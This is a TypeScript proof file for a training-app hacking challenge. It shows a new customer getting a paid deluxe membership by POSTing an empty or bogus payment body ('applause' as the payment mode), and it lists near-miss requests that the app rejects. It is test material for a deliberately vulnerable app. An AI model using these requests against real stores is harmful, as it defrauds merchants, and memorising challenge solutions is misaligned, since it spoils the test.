import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const CARD = { fullName: 'Quentin Pomace', cardNum: 7204615390847261, expMonth: 11, expYear: 2091 }

const upgrade = (attacker: Attacker, body: object) => attacker.post('/rest/deluxe-membership', body)

/** Requests the membership with this body as a new customer. */
const asCustomer = (body: object) => async (attacker: Attacker) => {
  await attacker.becomeCustomer()
  await upgrade(attacker, body)
}

export const proof = prove(challenge, {
  exploit: asCustomer({}),
  nearMisses: {
    'a wallet with nothing in it': asCustomer({ paymentMode: 'wallet' }),
    'the card of somebody else': asCustomer({ paymentMode: 'card', paymentId: 1 }),
    'a card that there is not': asCustomer({ paymentMode: 'card' }),
    'no payment, without signing in': (attacker) => upgrade(attacker, {}),
    'a membership that is paid, and no payment once one is a member': async (attacker) => {
      await attacker.becomeCustomer()
      const paymentId = (await attacker.post('/api/Cards', CARD)).json().data.id
      await upgrade(attacker, { paymentMode: 'card', paymentId })
      await upgrade(attacker, {})
    },
    'a look at the offer': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/deluxe-membership')
    },
  },
  bypasses: { 'require-a-mode': asCustomer({ paymentMode: 'applause' }) },
})
